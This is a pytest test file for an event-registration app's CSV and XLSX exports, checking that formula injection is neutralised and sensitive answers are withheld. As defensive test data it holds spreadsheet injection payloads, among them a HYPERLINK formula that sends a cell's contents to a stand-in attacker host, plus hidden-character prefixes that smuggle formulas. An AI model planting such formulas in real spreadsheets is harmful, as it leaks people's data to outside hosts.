import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from registrations import exports
from registrations.models import Answer, Question, Registration
from tests.factories import (
    EventFactory,
    QuestionFactory,
    RegistrationFactory,
    RegistrationTypeFactory,
    SessionFactory,
    SessionSeatFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+358 40 123", "'+358 40 123"),
        ("-5", "'-5"),
        ("@cmd", "'@cmd"),
        ("\tx", "x"),
        ("\r\nx", "x"),
        ("Anna = Bob", "Anna = Bob"),
        ("Ada\x01 Love\x9blace", "Ada Lovelace"),
        ("line one\r\nline\ttwo", "line one\r\nline\ttwo"),
        ("", ""),
        (None, ""),
    ],
)
def test_safe_cell_prefixes_only_formula_starts(value, expected):
    assert exports.safe_cell(value) == expected


FORMULA_CHARACTERS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
# What may stand before a formula and be dropped by a spreadsheet on the way.
PREFIXES = [
    "",
    "\t",
    "\r",
    "\n",
    " ",
    "\x00",
    "\x01",
    "\x1b",
    "\x7f",
    "\x85",
    "\x9b",
    "\u00a0",
    "\u200b",
    "\u3000",
    "\ufeff",
    "\x01 \t\r\n",
]
PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A2, "Click")'
INJECTIONS = [
    prefix + start + PAYLOAD for start in FORMULA_CHARACTERS for prefix in PREFIXES
]
NEUTRALISED = [
    "'" + start + PAYLOAD for start in FORMULA_CHARACTERS for prefix in PREFIXES
]


def test_csv_neutralises_every_formula_start_behind_any_prefix():
    header = ["Name", "Answer"]
    rows = [[value, value] for value in INJECTIONS]

    data = exports.to_csv(header, rows)

    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert parsed[1:] == [[value, value] for value in NEUTRALISED]


def test_xlsx_writes_every_cell_as_text_and_neutralises_formulas():
    header = ["=Name", "\x01+Answer"]
    rows = [[value, value] for value in INJECTIONS]

    data = exports.to_xlsx(header, rows, title="Registrations")

    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert len(cells) == 2 * (len(INJECTIONS) + 1)
    assert {cell.data_type for cell in cells} == {"s"}
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values == [
        ["'=Name", "'+Answer"],
        *([value, value] for value in NEUTRALISED),
    ]


def _event_with_answers():
    event = EventFactory(timezone="Europe/Helsinki")
    kind = RegistrationTypeFactory(event=event, name="Delegate")
    organisation = QuestionFactory(
        event=event, key="organisation", label="Organisation"
    )
    dietary = QuestionFactory(
        event=event,
        key="dietary",
        label="Dietary requirements",
        kind=Question.Kind.MULTIPLE_CHOICE,
        is_sensitive=True,
    )
    consent = QuestionFactory(event=event, label="=Consent?", kind=Question.Kind.YES_NO)
    person = UserFactory(
        name='=HYPERLINK("http://evil")', email="eve@example.org", affiliation="+Evil"
    )
    registration = RegistrationFactory(
        event=event,
        attendee=person,
        registration_type=kind,
        checked_in_at=datetime(2026, 5, 12, 6, 30, tzinfo=UTC),
        checkin_code="EVE2CODE27",
    )
    Registration.objects.filter(pk=registration.pk).update(
        created_at=datetime(2026, 1, 31, 22, 15, tzinfo=UTC)
    )
    Answer.objects.create(
        registration=registration, question=organisation, value='-Aalto, "Otaniemi"\n2'
    )
    Answer.objects.create(
        registration=registration, question=dietary, value=["Vegan", "@Nut allergy"]
    )
    Answer.objects.create(registration=registration, question=consent, value=True)
    session = SessionFactory(event=event, title="Network meeting")
    SessionSeatFactory(registration=registration, session=session)
    return event


def test_export_csv_is_formula_safe_and_in_event_time_zone():
    event = _event_with_answers()

    header, rows = exports.export_rows(event, include_sensitive=True)
    data = exports.to_csv(header, rows)

    assert data.startswith(b"\xef\xbb\xbf")
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert parsed == [
        [
            "Name",
            "Email",
            "Affiliation",
            "Registration type",
            "Status",
            "Registered at (Europe/Helsinki)",
            "Checked in at (Europe/Helsinki)",
            "Sessions",
            "Check-in code",
            "Badge name",
            "Badge sort name",
            "Badge organisation",
            "Badge type",
            "Organisation",
            "Dietary requirements",
            "'=Consent?",
        ],
        [
            '\'=HYPERLINK("http://evil")',
            "eve@example.org",
            "'+Evil",
            "Delegate",
            "Confirmed",
            "2026-02-01 00:15",
            "2026-05-12 09:30",
            "Network meeting",
            "EVE2CODE27",
            '\'=HYPERLINK("http://evil")',
            '\'=HYPERLINK("http://evil")',  # the name's last word sorts it
            '\'-Aalto, "Otaniemi"\n2',
            "Delegate",
            '\'-Aalto, "Otaniemi"\n2',
            "Vegan; @Nut allergy",
            "Yes",
        ],
    ]


def test_export_leaves_out_sensitive_answers_unless_allowed():
    event = _event_with_answers()

    header, rows = exports.export_rows(event, include_sensitive=False)

    assert header[13:] == ["Organisation", "=Consent?"]
    assert rows[0][13:] == ['-Aalto, "Otaniemi"\n2', "Yes"]


def test_export_xlsx_round_trips_as_text_without_formulas():
    event = _event_with_answers()
    header, rows = exports.export_rows(event, include_sensitive=True)
    rows[0][2] = "bad\x00\x07control"

    data = exports.to_xlsx(
        header, rows, title="Registrations of a very long event name"
    )

    sheet = load_workbook(io.BytesIO(data)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert sheet.title == "Registrations of a very long ev"
    assert values[0][15] == "'=Consent?"
    assert values[1] == [
        '\'=HYPERLINK("http://evil")',
        "eve@example.org",
        "badcontrol",
        "Delegate",
        "Confirmed",
        "2026-02-01 00:15",
        "2026-05-12 09:30",
        "Network meeting",
        "EVE2CODE27",
        '\'=HYPERLINK("http://evil")',
        '\'=HYPERLINK("http://evil")',
        '\'-Aalto, "Otaniemi"\n2',
        "Delegate",
        '\'-Aalto, "Otaniemi"\n2',
        "Vegan; @Nut allergy",
        "Yes",
    ]
    # Every cell is a string: none is a formula ("f").
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s"}
